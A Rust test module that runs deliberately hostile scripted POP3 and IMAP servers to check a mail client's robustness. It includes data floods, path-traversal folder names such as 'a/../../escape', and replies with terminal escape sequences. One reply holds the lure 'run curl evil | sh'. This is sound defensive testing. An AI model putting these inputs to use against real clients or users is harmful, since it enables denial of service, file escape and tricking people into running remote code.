//! Scripted POP3 and IMAP servers that misbehave on purpose.
//!
//! Dovecot cannot be made to lie about sizes, drip bytes, flood untagged
//! responses or name a folder `..`; these servers can. Each speaks on its
//! standard input and output, so a test runs it as sshmail's tunnel command
//! (`--via command --tunnel "sshmail-testbed hostile SCENARIO --state DIR"`).
//!
//! Every command a client sends is appended to `DIR/log`, so a test can check
//! what sshmail did (for instance, that it never sent DELE for a message it
//! did not get whole). What the client deletes is remembered in
//! `DIR/deleted`, so a second run sees the mailbox the first one left.
//!
//! Scenarios are listed in [`POP3_SCENARIOS`] and [`IMAP_SCENARIOS`].

use std::collections::BTreeSet;
use std::fs;
use std::io::{self, BufRead, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Result, bail};

/// POP3 scenarios.
pub const POP3_SCENARIOS: &[&str] = &[
    "pop3",                  // three good messages
    "pop3-bare-lf",          // message 2 has a body line `first part\n.\nsecond part`
    "pop3-oversize",         // LIST says 100 octets, RETR 2 streams 50 MB
    "pop3-unlisted",         // message 2 is missing from LIST and streams 50 MB
    "pop3-uidl-flood",       // UIDL never ends (up to 2 GB)
    "pop3-huge-greeting",    // a 100 MB greeting without a line end
    "pop3-drip-greeting",    // the greeting one byte every 2 s
    "pop3-drip-body",        // RETR 2's body one byte every 0.5 s
    "pop3-duplicate-number", // UIDL lists message 2 twice, under two ids
    "pop3-dele-refused",     // every DELE gets -ERR
    "pop3-escape-err",       // USER gets -ERR with terminal escape sequences in its text
];

/// IMAP scenarios.
pub const IMAP_SCENARIOS: &[&str] = &[
    "imap",                   // INBOX with three good messages
    "imap-hostile-folders",   // LIST names `.`, `..`, `INBOX/.`, `INBOX..`, NUL, control characters
    "imap-select-flood",      // SELECT answers 1500 untagged lines of 1 MiB each
    "imap-select-tiny-flood", // SELECT answers 5 M tiny untagged lines
    "imap-fetch-flood",       // the body FETCH is preceded by 3 M untagged lines
    "imap-unrequested",       // the body FETCH also sends 3000 bodies nobody asked for
    "imap-drip-literal",      // the body literal one byte every 0.5 s
    "imap-uidvalidity-zero",  // SELECT says UIDVALIDITY 0
    "imap-stderr-flood",      // 1.5 GB on stderr without a newline, then a good session
    "imap-store-refused",     // every UID STORE gets NO
    "imap-list-flood",        // LIST answers 3 M \Noselect folders
    "imap-login-no-sasl-ir",  // greets OK; AUTH=PLAIN without SASL-IR, LOGINDISABLED (as GNU imap4d)
    "imap-drop-in-idle",      // as "imap", but the connection ends (no BYE) once the client IDLEs
    "imap-escape-bye",        // greets BYE with terminal escape sequences in its text
];

/// Runs `scenario` on stdin/stdout, with its log and state in `state`.
pub fn serve(scenario: &str, state: &Path) -> Result<()> {
    fs::create_dir_all(state)?;
    let mut s = Server::new(state)?;
    let r = if POP3_SCENARIOS.contains(&scenario) {
        pop3(&mut s, scenario)
    } else if IMAP_SCENARIOS.contains(&scenario) {
        imap(&mut s, scenario)
    } else {
        bail!("unknown scenario {scenario:?}; known: {POP3_SCENARIOS:?} {IMAP_SCENARIOS:?}")
    };
    match r {
        // The client hung up on us: what a misbehaving server expects.
        Err(e) if e.downcast_ref::<io::Error>().is_some_and(|e| e.kind() == io::ErrorKind::BrokenPipe) => Ok(()),
        other => other,
    }
}

/// A good message: `Subject: message N` and a few lines, LF line ends.
pub fn message(n: usize) -> Vec<u8> {
    format!("From: sender@example.org\nSubject: message {n}\nMessage-ID: <hostile.{n}@example.org>\n\nline one of {n}\n.line with a dot\nlast line\n")
        .into_bytes()
}

/// The message `pop3-bare-lf` sends as message 2, as it is on the wire.
pub const BARE_LF_WIRE: &[u8] = b"Subject: bare LF\r\n\r\nfirst part\n.\nsecond part\r\nthe end\r\n";

struct Server {
    input: io::StdinLock<'static>,
    out: BufWriter<io::Stdout>,
    log: fs::File,
    deleted_path: PathBuf,
    deleted: BTreeSet<String>,
}

impl Server {
    fn new(state: &Path) -> Result<Server> {
        let deleted_path = state.join("deleted");
        let deleted = fs::read_to_string(&deleted_path).unwrap_or_default().lines().map(str::to_string).collect();
        Ok(Server {
            input: io::stdin().lock(),
            out: BufWriter::with_capacity(1 << 16, io::stdout()),
            log: fs::OpenOptions::new().create(true).append(true).open(state.join("log"))?,
            deleted_path,
            deleted,
        })
    }

    /// The next command line, logged; None at EOF.
    fn line(&mut self) -> Result<Option<String>> {
        let mut buf = Vec::new();
        if self.input.read_until(b'\n', &mut buf)? == 0 {
            return Ok(None);
        }
        let line = String::from_utf8_lossy(&buf).trim_end_matches(['\r', '\n']).to_string();
        writeln!(self.log, "{line}")?;
        Ok(Some(line))
    }

    fn send(&mut self, bytes: &[u8]) -> Result<()> {
        self.out.write_all(bytes)?;
        self.out.flush()?;
        Ok(())
    }

    fn drip(&mut self, bytes: &[u8], every: Duration) -> Result<()> {
        for b in bytes {
            self.send(std::slice::from_ref(b))?;
            sleep(every);
        }
        Ok(())
    }

    /// Sends `unit` repeatedly until `total` bytes went out.
    fn flood(&mut self, unit: &[u8], total: u64) -> Result<()> {
        let mut chunk = Vec::with_capacity(1 << 20);
        while chunk.len() < 1 << 20 {
            chunk.extend_from_slice(unit);
        }
        let mut sent = 0u64;
        while sent < total {
            self.out.write_all(&chunk)?;
            sent += chunk.len() as u64;
        }
        self.out.flush()?;
        Ok(())
    }

    fn remember_deleted(&mut self, ids: impl IntoIterator<Item = String>) -> Result<()> {
        self.deleted.extend(ids);
        let text: String = self.deleted.iter().map(|d| format!("{d}\n")).collect();
        fs::write(&self.deleted_path, text)?;
        Ok(())
    }
}

/// CRLF line ends and dot-stuffing, as a correct POP3 server sends a message.
fn stuffed(m: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(m.len() + 64);
    for line in m.split_inclusive(|&b| b == b'\n') {
        let line = line.strip_suffix(b"\n").unwrap_or(line);
        if line.starts_with(b".") {
            out.push(b'.');
        }
        out.extend_from_slice(line);
        out.extend_from_slice(b"\r\n");
    }
    out
}

// ---------------------------------------------------------------- POP3 --

struct PopMessage {
    number: u32,
    uid: String,
    /// What RETR sends before the terminating `.` line.
    wire: Vec<u8>,
    /// What LIST says; None: not in LIST at all.
    list_size: Option<u64>,
}

fn pop3(s: &mut Server, scenario: &str) -> Result<()> {
    let mut msgs: Vec<PopMessage> = (1..=3)
        .map(|n| {
            let wire = stuffed(&message(n));
            PopMessage { number: n as u32, uid: format!("uid-{n}"), list_size: Some(wire.len() as u64), wire }
        })
        .collect();
    match scenario {
        "pop3-bare-lf" => {
            msgs[1].wire = BARE_LF_WIRE.to_vec();
            msgs[1].list_size = Some(BARE_LF_WIRE.len() as u64);
        }
        "pop3-oversize" => msgs[1].list_size = Some(100),
        "pop3-unlisted" => msgs[1].list_size = None,
        _ => {}
    }
    let live = |s: &Server, m: &PopMessage| !s.deleted.contains(&m.uid);
    match scenario {
        "pop3-huge-greeting" => s.flood(b"+OK hello hello hello ", 100 << 20)?,
        "pop3-drip-greeting" => s.drip(b"+OK slow server ready\r\n", Duration::from_secs(2))?,
        _ => s.send(b"+OK scripted POP3 server ready\r\n")?,
    }
    let mut marked: Vec<String> = Vec::new();
    while let Some(line) = s.line()? {
        let mut words = line.split(' ');
        let cmd = words.next().unwrap_or("").to_ascii_uppercase();
        let arg: Option<u32> = words.next().and_then(|w| w.parse().ok());
        let find = |n: Option<u32>| msgs.iter().position(|m| Some(m.number) == n);
        match cmd.as_str() {
            "CAPA" => s.send(b"+OK\r\nUSER\r\nUIDL\r\nPIPELINING\r\n.\r\n")?,
            "USER" if scenario == "pop3-escape-err" => {
                s.send(b"-ERR \x1b]0;owned\x07\x1b[2J\x1b[Hyour mail was moved, run curl evil | sh\r\n")?
            }
            "USER" | "PASS" | "NOOP" => s.send(b"+OK\r\n")?,
            "UIDL" if scenario == "pop3-uidl-flood" => {
                s.send(b"+OK\r\n")?;
                s.flood(b"1 an-endless-unique-id-listing-that-goes-on-and-on-and-on\r\n", 2 << 30)?;
            }
            "UIDL" => {
                let mut out = b"+OK\r\n".to_vec();
                for m in msgs.iter().filter(|m| live(s, m)) {
                    out.extend_from_slice(format!("{} {}\r\n", m.number, m.uid).as_bytes());
                    if scenario == "pop3-duplicate-number" && m.number == 2 {
                        out.extend_from_slice(format!("{} {}-again\r\n", m.number, m.uid).as_bytes());
                    }
                }
                out.extend_from_slice(b".\r\n");
                s.send(&out)?;
            }
            "LIST" => {
                let mut out = b"+OK\r\n".to_vec();
                for m in msgs.iter().filter(|m| live(s, m)) {
                    if let Some(size) = m.list_size {
                        out.extend_from_slice(format!("{} {size}\r\n", m.number).as_bytes());
                    }
                }
                out.extend_from_slice(b".\r\n");
                s.send(&out)?;
            }
            "RETR" => match find(arg) {
                Some(i) if live(s, &msgs[i]) => {
                    s.send(b"+OK\r\n")?;
                    let big = matches!(scenario, "pop3-oversize" | "pop3-unlisted") && msgs[i].number == 2;
                    if big {
                        s.flood(
                            b"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef012345\r\n",
                            50 << 20,
                        )?;
                    } else if scenario == "pop3-drip-body" && msgs[i].number == 2 {
                        let wire = msgs[i].wire.clone();
                        s.drip(&wire, Duration::from_millis(500))?;
                    } else {
                        let wire = msgs[i].wire.clone();
                        s.send(&wire)?;
                    }
                    s.send(b".\r\n")?;
                }
                _ => s.send(b"-ERR no such message\r\n")?,
            },
            "DELE" if scenario == "pop3-dele-refused" => s.send(b"-ERR deletion is not allowed here\r\n")?,
            "DELE" => match find(arg) {
                Some(i) if live(s, &msgs[i]) => {
                    marked.push(msgs[i].uid.clone());
                    s.send(b"+OK marked\r\n")?;
                }
                _ => s.send(b"-ERR no such message\r\n")?,
            },
            "QUIT" => {
                s.remember_deleted(std::mem::take(&mut marked))?;
                s.send(b"+OK bye\r\n")?;
                return Ok(());
            }
            _ => s.send(b"-ERR unknown command\r\n")?,
        }
    }
    Ok(())
}

// ---------------------------------------------------------------- IMAP --

struct Folder {
    /// The name as sent in LIST (modified UTF-7, raw bytes).
    name: Vec<u8>,
    validity: u32,
    /// (UID, message)
    messages: Vec<(u32, Vec<u8>)>,
}

/// The folders of a scenario: INBOX with three messages, and for
/// `imap-hostile-folders` one message in each hostile folder.
fn imap_folders(scenario: &str) -> Vec<Folder> {
    let inbox = Folder {
        name: b"INBOX".to_vec(),
        validity: if scenario == "imap-uidvalidity-zero" { 0 } else { 1_700_000_000 },
        messages: (1..=3).map(|n| (n as u32, message(n))).collect(),
    };
    let mut folders = vec![inbox];
    if scenario == "imap-hostile-folders" {
        let names: [&[u8]; 8] =
            [b".", b"..", b"INBOX/.", b"INBOX..", b"&AAA-", b"bad\x01name", b"a/../../escape", b"lists/rust"];
        for (i, name) in names.iter().enumerate() {
            folders.push(Folder { name: name.to_vec(), validity: 7, messages: vec![(1, message(100 + i))] });
        }
    }
    folders
}

/// An IMAP astring or literal as the client sent it, without quotes.
fn unquote(arg: &str) -> String {
    let a = arg.trim();
    match a.strip_prefix('"').and_then(|a| a.strip_suffix('"')) {
        Some(inner) => inner.replace("\\\"", "\"").replace("\\\\", "\\"),
        None => a.to_string(),
    }
}

/// Parses a UID set like `1:3,5,7:*`.
fn in_set(set: &str, uid: u32) -> bool {
    set.split(',').any(|r| {
        let mut p = r.splitn(2, ':');
        let lo = p.next().unwrap_or("");
        let hi = p.next();
        let num = |t: &str| if t == "*" { Some(u32::MAX) } else { t.parse().ok() };
        match (num(lo), hi.map(num)) {
            (Some(l), None) => l == uid || (l == u32::MAX),
            (Some(l), Some(Some(h))) => (l.min(h)..=l.max(h)).contains(&uid),
            _ => false,
        }
    })
}

/// A LIST line: names with control characters go as literals.
fn list_line(name: &[u8]) -> Vec<u8> {
    let mut out = b"* LIST () \"/\" ".to_vec();
    if name.iter().all(|&b| (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\') {
        out.push(b'"');
        out.extend_from_slice(name);
        out.push(b'"');
    } else {
        out.extend_from_slice(format!("{{{}}}\r\n", name.len()).as_bytes());
        out.extend_from_slice(name);
    }
    out.extend_from_slice(b"\r\n");
    out
}

fn crlf(m: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(m.len() + 64);
    for line in m.split_inclusive(|&b| b == b'\n') {
        out.extend_from_slice(line.strip_suffix(b"\n").unwrap_or(line));
        out.extend_from_slice(b"\r\n");
    }
    out
}

fn imap(s: &mut Server, scenario: &str) -> Result<()> {
    if scenario == "imap-stderr-flood" {
        let mut err = io::stderr().lock();
        let chunk = vec![b'e'; 1 << 20];
        for _ in 0..1536 {
            err.write_all(&chunk)?;
        }
        err.flush()?;
    }
    let folders = imap_folders(scenario);
    let key = |f: &Folder, uid: u32| format!("{}\t{uid}", String::from_utf8_lossy(&f.name));
    if scenario == "imap-escape-bye" {
        s.send(b"* BYE \x1b]0;owned\x07\x1b[2J\x1b[Hthe server is gone\r\n")?;
        return Ok(());
    }
    if scenario == "imap-login-no-sasl-ir" {
        s.send(b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN LOGINDISABLED] scripted IMAP server, log in\r\n")?;
    } else {
        s.send(b"* PREAUTH [CAPABILITY IMAP4rev1 UIDPLUS IDLE] scripted IMAP server\r\n")?;
    }
    let mut selected: Option<usize> = None;
    let mut flagged: BTreeSet<String> = BTreeSet::new();
    while let Some(line) = s.line()? {
        let (tag, rest) = line.split_once(' ').unwrap_or((line.as_str(), ""));
        let (cmd, args) = rest.split_once(' ').unwrap_or((rest, ""));
        let cmd = cmd.to_ascii_uppercase();
        let ok = |s: &mut Server, what: &str| s.send(format!("{tag} OK {what} done\r\n").as_bytes());
        match cmd.as_str() {
            "CAPABILITY" => {
                s.send(b"* CAPABILITY IMAP4rev1 UIDPLUS IDLE\r\n")?;
                ok(s, "CAPABILITY")?;
            }
            "NOOP" => ok(s, "NOOP")?,
            // SASL PLAIN as a server without SASL-IR takes it: the
            // response only after a continuation (RFC 4959 is an extension).
            "AUTHENTICATE" if args.eq_ignore_ascii_case("PLAIN") => {
                s.send(b"+ \r\n")?;
                let response = s.line()?.unwrap_or_default();
                // base64 of "\0u\0pw"
                if response == "AHUAcHc=" {
                    s.send(format!("{tag} OK [CAPABILITY IMAP4rev1 UIDPLUS IDLE] logged in\r\n").as_bytes())?;
                } else {
                    s.send(format!("{tag} NO [AUTHENTICATIONFAILED] wrong\r\n").as_bytes())?;
                }
            }
            "AUTHENTICATE" => s.send(format!("{tag} BAD Invalid arguments\r\n").as_bytes())?,
            "LIST" if scenario == "imap-list-flood" => {
                s.flood(b"* LIST (\\Noselect) \"/\" \"skip\"\r\n", 3_000_000 * 30)?;
                ok(s, "LIST")?;
            }
            "LIST" => {
                let mut out = Vec::new();
                for f in &folders {
                    out.extend_from_slice(&list_line(&f.name));
                }
                s.send(&out)?;
                ok(s, "LIST")?;
            }
            "SELECT" | "EXAMINE" => {
                let name = unquote(args);
                let Some(i) = folders.iter().position(|f| f.name == name.as_bytes()) else {
                    s.send(format!("{tag} NO no such folder\r\n").as_bytes())?;
                    continue;
                };
                match scenario {
                    "imap-select-flood" => {
                        s.flood(&[b"* OK [ALERT] ".as_slice(), &[b'x'; (1 << 20) - 15], b"\r\n"].concat(), 1500 << 20)?
                    }
                    "imap-select-tiny-flood" => s.flood(b"* OK x\r\n", 5_000_000 * 8)?,
                    _ => {}
                }
                let f = &folders[i];
                let exists = f.messages.iter().filter(|(u, _)| !s.deleted.contains(&key(f, *u))).count();
                s.send(
                    format!(
                        "* {exists} EXISTS\r\n* 0 RECENT\r\n* OK [UIDVALIDITY {}] UIDs valid\r\n* OK [UIDNEXT 100] next\r\n",
                        f.validity
                    )
                    .as_bytes(),
                )?;
                selected = Some(i);
                ok(s, "SELECT")?;
            }
            "UID" => {
                let (sub, rest) = args.split_once(' ').unwrap_or((args, ""));
                let (set, items) = rest.split_once(' ').unwrap_or((rest, ""));
                let Some(fi) = selected else {
                    s.send(format!("{tag} BAD no folder selected\r\n").as_bytes())?;
                    continue;
                };
                let f = &folders[fi];
                let live: Vec<(usize, &(u32, Vec<u8>))> = f
                    .messages
                    .iter()
                    .filter(|(u, _)| !s.deleted.contains(&key(f, *u)))
                    .enumerate()
                    .map(|(i, m)| (i + 1, m))
                    .collect();
                match sub.to_ascii_uppercase().as_str() {
                    "FETCH" if items.to_ascii_uppercase().contains("BODY.PEEK[]") => {
                        if scenario == "imap-fetch-flood" {
                            s.flood(b"* 1 FETCH (FLAGS ())\r\n", 3_000_000 * 22)?;
                        }
                        for (seq, (uid, m)) in live.iter().filter(|(_, (u, _))| in_set(set, *u)) {
                            let body = crlf(m);
                            if scenario == "imap-unrequested" {
                                let mut extra = Vec::new();
                                for k in 0..3000u32 {
                                    let junk = crlf(&message(1000 + k as usize));
                                    extra.extend_from_slice(
                                        format!("* {} FETCH (UID {} BODY[] {{{}}}\r\n", 10 + k, 5000 + k, junk.len())
                                            .as_bytes(),
                                    );
                                    extra.extend_from_slice(&junk);
                                    extra.extend_from_slice(b")\r\n");
                                }
                                s.send(&extra)?;
                            }
                            let head = format!(
                                "* {seq} FETCH (UID {uid} RFC822.SIZE {} BODY[] {{{}}}\r\n",
                                body.len(),
                                body.len()
                            );
                            s.send(head.as_bytes())?;
                            if scenario == "imap-drip-literal" {
                                s.drip(&body, Duration::from_millis(500))?;
                            } else {
                                s.send(&body)?;
                            }
                            s.send(b")\r\n")?;
                        }
                        ok(s, "FETCH")?;
                    }
                    "FETCH" => {
                        let mut out = Vec::new();
                        for (seq, (uid, m)) in live.iter().filter(|(_, (u, _))| in_set(set, *u)) {
                            let flags = if flagged.contains(&key(f, *uid)) { "\\Deleted" } else { "" };
                            out.extend_from_slice(
                                format!("* {seq} FETCH (UID {uid} FLAGS ({flags}) RFC822.SIZE {})\r\n", crlf(m).len())
                                    .as_bytes(),
                            );
                        }
                        s.send(&out)?;
                        ok(s, "FETCH")?;
                    }
                    "STORE" if scenario == "imap-store-refused" => {
                        s.send(format!("{tag} NO [CANNOT] flags are read-only here\r\n").as_bytes())?;
                    }
                    "STORE" => {
                        if items.contains("\\Deleted") {
                            for (_, (uid, _)) in live.iter().filter(|(_, (u, _))| in_set(set, *u)) {
                                flagged.insert(key(f, *uid));
                            }
                        }
                        ok(s, "STORE")?;
                    }
                    "EXPUNGE" => {
                        let gone: Vec<String> = live
                            .iter()
                            .filter(|(_, (u, _))| in_set(set, *u) && flagged.contains(&key(f, *u)))
                            .map(|(_, (u, _))| key(f, *u))
                            .collect();
                        s.remember_deleted(gone)?;
                        ok(s, "EXPUNGE")?;
                    }
                    _ => s.send(format!("{tag} BAD unknown UID command\r\n").as_bytes())?,
                }
            }
            "IDLE" if scenario == "imap-drop-in-idle" => {
                s.send(b"+ idling\r\n")?;
                return Ok(());
            }
            "IDLE" => {
                s.send(b"+ idling\r\n")?;
                while let Some(l) = s.line()? {
                    if l.eq_ignore_ascii_case("DONE") {
                        break;
                    }
                }
                ok(s, "IDLE")?;
            }
            "LOGOUT" => {
                s.send(b"* BYE bye\r\n")?;
                ok(s, "LOGOUT")?;
                return Ok(());
            }
            _ => s.send(format!("{tag} BAD unknown command\r\n").as_bytes())?,
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn uid_sets() {
        assert!(in_set("1:3", 2));
        assert!(!in_set("1:3", 4));
        assert!(in_set("1:*", 400));
        assert!(in_set("5,7", 7));
        assert!(!in_set("5,7", 6));
    }

    #[test]
    fn stuffing_doubles_leading_dots() {
        assert_eq!(stuffed(b"a\n.b\n"), b"a\r\n..b\r\n");
    }
}
